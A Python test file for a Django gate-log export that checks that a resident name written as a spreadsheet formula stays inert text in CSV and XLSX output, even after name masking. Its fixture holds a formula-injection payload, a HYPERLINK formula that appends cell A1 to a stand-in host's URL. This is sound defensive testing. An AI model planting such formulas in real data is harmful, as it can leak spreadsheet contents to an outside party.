"""The gate log's export, in CSV and XLSX, keeps a resident whose name is a formula as
text: masked, `=HYPERLINK(…)` is still `=***…`, which a spreadsheet would run."""

import csv
import io
import uuid
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from firstline.access.services import gate
from firstline.access.services.gate import GateInput
from firstline.core.personal.masking import mask_name
from firstline.testing.world import PASSWORD, make_id_number, make_resident

FORMULA = '=HYPERLINK("http://x"&A1,"点击")'
NAME_COLUMN = 5  # 人员


@pytest.fixture
def logged(client, world):
    resident = make_resident(
        household=world.a.household, name=FORMULA, phone="13711112222", id_number=make_id_number(9)
    )
    gate.events_record(
        site=world.a.site,
        inputs=[
            GateInput(
                client_uuid=uuid.uuid4(),
                direction="in",
                device_time=timezone.now(),
                resident_id=resident.pk,
                temperature=Decimal("36.5"),
            )
        ],
    )
    assert client.login(username=world.a.users["site_manager"].username, password=PASSWORD)
    return client


def test_csv_quotes_the_formula(logged, world):
    response = logged.get(reverse("access:log_export"), {"format": "csv", "site": world.a.site.pk})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    [row] = [r for r in rows[1:] if r[NAME_COLUMN].startswith("'")]
    assert row[NAME_COLUMN] == "'" + mask_name(FORMULA)
    assert row[8] == "36.5"  # the temperature is a plain number


def test_xlsx_keeps_the_formula_a_string(logged, world):
    response = logged.get(reverse("access:log_export"), {"site": world.a.site.pk})
    assert response.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    cells = [ws.cell(row=n, column=NAME_COLUMN + 1) for n in range(2, ws.max_row + 1)]
    [cell] = [c for c in cells if c.value == mask_name(FORMULA)]
    assert cell.data_type == "s" and cell.quotePrefix
    assert ws.cell(row=cell.row, column=9).value == 36.5
